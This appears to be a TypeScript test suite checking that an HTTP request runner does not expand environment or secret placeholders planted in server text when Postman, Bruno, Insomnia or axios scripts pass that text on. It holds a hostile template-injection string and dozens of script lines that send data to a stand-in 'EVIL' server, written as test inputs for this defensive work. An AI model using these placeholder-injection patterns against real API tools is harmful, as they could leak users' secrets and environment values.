import assert from 'node:assert/strict';
import { startRecorder, type Recorder } from '../../support/recorder.ts';
import { sendRun } from '../../support/sendRun.ts';

/** Texts of a server that aim to make scripts of Postman or Bruno pass values on. */
const hostile =
  'a {{$env.TOWN}} \\\\{{$secret.KEY}} {{ $processEnv TOWN | upper }} {{?label}} {{{$env.TOWN}}} {{one.request.headers.X-Key}} {{$env.TOWN';

/** Scripts that use the text `s`. `EVIL` is the server. */
const texts: Readonly<Record<string, string>> = {
  'pm.request.url.update': 'pm.request.url.update(pm.request.url.toString() + "&s=" + s)',
  'pm.request.url =': 'pm.request.url = pm.request.url + "&s=" + s',
  'pm.request.url.addQueryParams, a value': 'pm.request.url.addQueryParams([{ key: "s", value: s }])',
  'pm.request.url.addQueryParams, a name': 'pm.request.url.addQueryParams([{ key: s, value: "1" }])',
  'pm.request.headers.add': 'pm.request.headers.add({ key: "X-A", value: s })',
  'pm.request.addHeader': 'pm.request.addHeader({ key: "X-A", value: s })',
  'pm.request.body.raw =': 'pm.request.body.raw = s',
  'pm.request.body.raw = an object': 'pm.request.body.raw = { s }',
  'pm.request.body.update': 'pm.request.body.update(s)',
  'pm.request.body.update with an object': 'pm.request.body.update({ raw: { s } })',
  'pm.request.body.update with a list': 'pm.request.body.update({ raw: [s] })',
  'pm.request.url.query.add': 'pm.request.url.query.add({ key: "s", value: s })',
  'pm.request.url.query.upsert': 'pm.request.url.query.upsert({ key: s, value: s })',
  'pm.request.body.urlencoded.add':
    'pm.request.headers.upsert({ key: "Content-Type", value: "application/x-www-form-urlencoded" }); pm.request.body.urlencoded.add({ key: s, value: s })',
  'pm.request.body.update with a form': 'pm.request.body.update({ mode: "urlencoded", urlencoded: [{ key: "s", value: s }] })',
  'pm.sendRequest with parts of a form':
    'await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "formdata", formdata: [{ key: s, value: s }] } })',
  'pm.sendRequest with GraphQL':
    'await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "graphql", graphql: { query: s, variables: { s } } } })',
  'pm.sendRequest with a URL of parts':
    'await pm.sendRequest({ url: { raw: "EVIL/", query: [] }, method: "POST", header: [{ key: "X-A", value: s }] })',
  'pm.sendRequest with auth': 'await pm.sendRequest({ url: "EVIL/", auth: { type: "bearer", bearer: { token: s } } })',
  'pm.request.headers = a list': 'pm.request.headers = [{ key: "X-A", value: s }]',
  'pm.request.headers.add, a line': 'pm.request.headers.add("X-A: " + s)',
  'pm.request.body =': 'pm.request.body = s',
  'pm.request.body = an object': 'pm.request.body = { mode: "raw", raw: s }',
  'pm.request.body.update with GraphQL': 'pm.request.body.update({ mode: "graphql", graphql: { query: s, variables: { s } } })',
  'pm.request.body.update with parts of a form': 'pm.request.body.update({ mode: "formdata", formdata: [{ key: s, value: s }] })',
  'pm.request.body.urlencoded =':
    'pm.request.headers.upsert({ key: "Content-Type", value: "application/x-www-form-urlencoded" }); pm.request.body.urlencoded = [{ key: s, value: s }]',
  'pm.request.url = an object': 'pm.request.url = { raw: "EVIL/?s=" + s }',
  'pm.request.url.query =': 'pm.request.url.query = [{ key: s, value: s }]',
  'pm.request.url.path =': 'pm.request.url.path = [s, "b"]',
  'pm.sendRequest with pm.request':
    'pm.request.headers.add({ key: "X-A", value: s }); pm.request.body = s; pm.request.url += "&s=" + s; await pm.sendRequest(pm.request)',
  'pm.sendRequest with the headers and the body of pm.request':
    'pm.request.headers.add("X-A: " + s); pm.request.body.update({ mode: "raw", raw: { s } }); await pm.sendRequest({ url: "EVIL/", method: "PUT", header: pm.request.headers, body: pm.request.body })',
  'axios with the fields of a form':
    'await axios.post("EVIL/", { [s]: s, list: [s] }, { headers: { "Content-Type": "application/x-www-form-urlencoded" } })',
  'bru.sendRequest with the fields of a form':
    'await bru.sendRequest({ url: "EVIL/", method: "POST", data: { [s]: s }, headers: { "Content-Type": "application/x-www-form-urlencoded" } })',
  'insomnia.request.body.update': 'insomnia.request.body.update({ mode: "raw", raw: s })',
  'insomnia.sendRequest':
    'await insomnia.sendRequest({ url: "EVIL/?s=" + s, method: "POST", header: { "X-A": s }, body: { mode: "raw", raw: s } })',
  'req.setUrl': 'req.setUrl(req.getUrl() + "&s=" + s)',
  'req.setHeader': 'req.setHeader("X-A", s)',
  'pm.request.headers.populate': 'pm.request.headers.populate([{ key: "X-A", value: s }])',
  'req.headerList.add': 'req.headerList.add({ key: "X-A", value: s })',
  'req.setBody with a form': 'req.setHeader("Content-Type", "application/x-www-form-urlencoded"); req.setBody({ s })',
  'req.setHeaders': 'req.setHeaders({ "X-A": s })',
  'req.setBody': 'req.setBody(s)',
  'req.setBody with an object': 'req.setBody({ s })',
  'req.body =': 'req.body = [s]',
  'pm.environment.set': 'pm.environment.set("v", s)',
  'pm.variables.replaceIn': 'pm.variables.set("v", pm.variables.replaceIn(s))',
  'bru.setVar': 'bru.setVar("v", s)',
  'bru.interpolate': 'bru.setVar("v", bru.interpolate(s))',
  'pm.sendRequest': 'await pm.sendRequest({ url: "EVIL/?s=" + s, method: "POST", header: { "X-A": s }, body: { mode: "raw", raw: s } })',
  'bru.sendRequest': 'await bru.sendRequest({ url: "EVIL/?s=" + s, method: "POST", headers: { "X-A": s }, data: s })',
  axios: 'await axios.post("EVIL/?s=" + encodeURIComponent(s), s, { headers: { "X-A": s } })',
};

const names: Readonly<Record<string, string>> = {
  'pm.request.headers.add, a name': 'pm.request.headers.add({ key: s, value: "1" })',
  'pm.request.headers.upsert, a name': 'pm.request.headers.upsert({ key: s, value: "1" })',
  'pm.request.method =': 'pm.request.method = s',
  'pm.request.headers.add, the name of a line': 'pm.request.headers.add(s + ": 1")',
  'pm.request.url.host =': 'pm.request.url.host = [s]',
  'pm.request.url.protocol =': 'pm.request.url.protocol = s',
  'pm.request.url.port =': 'pm.request.url.port = s',
  'pm.sendRequest with pm.request':
    'pm.request.headers.upsert({ key: s, value: s }); pm.request.method = "POST"; await pm.sendRequest(pm.request)',
  'req.headerList.upsert, a name': 'req.headerList.upsert({ key: s, value: "1" })',
  'req.setHeader, a name': 'req.setHeader(s, "1")',
  'req.setHeaders, a name': 'req.setHeaders({ [s]: "1" })',
  'req.setMethod': 'req.setMethod(s)',
};

describe('a text of a server with placeholders, which a script of Postman or Bruno passes on', () => {
  let good: Recorder;
  let evil: Recorder;
  before(async () => {
    [good, evil] = [await startRecorder(), await startRecorder()];
  });
  after(async () => {
    await good.close();
    await evil.close();
  });
  beforeEach(() => void (evil.requests.length = 0));

  /** Returns the received requests. All permissions are granted, so only the script protects the values. */
  async function received(code: string, s: string): Promise<string> {
    const asked: string[] = [];
    // The file names both values, so that they can be read.
    const text = `@both = {{$env.TOWN}} {{$secret.KEY}}\n\n### one\n# @name one\nGET GOOD/\nX-Key: {{$secret.KEY}}\n\n### two\n# @ref one\n< {%\nconst s = ${JSON.stringify(s)};\n${code};\n%}\nPOST EVIL/?q=1\nX-V: {{v | default ""}}\n\nb\n`;
    await sendRun(
      { 'a.req': text.replaceAll('EVIL', evil.url).replaceAll('GOOD', good.url) },
      {
        host: {
          env: (name) => (name === 'TOWN' ? 'Riga-0815' : undefined),
          secret: (name) => Promise.resolve(name === 'KEY' ? 'hush-4711' : undefined),
          maySendEnvironment: (asks) => Promise.resolve(asked.push(asks.join()) > 0),
        },
      },
    );
    assert.deepEqual(asked, []);
    return evil.requests.map(({ head, body }) => `${head}\n${body}`).join('\n');
  }

  for (const [how, code] of Object.entries(texts))
    it(`reads no value of the environment and no secret: ${how}`, async () => {
      const all = await received(code, hostile);
      assert.doesNotMatch(all, /Riga|RIGA|hush/);
      assert.match(decodeURIComponent(all.replaceAll('%7B', '{').replaceAll('%7D', '}')), /\{\{\$env\.TOWN/);
    });

  for (const [how, code] of Object.entries(names))
    it(`reads neither as a name: ${how}`, async () => {
      for (const s of ['{{$env.TOWN}}', '{{$secret.KEY}}', '{{one.request.headers.X-Key}}', '\\\\{{$secret.KEY}}'])
        assert.doesNotMatch(await received(code, s), /Riga|hush/, s);
    });
});
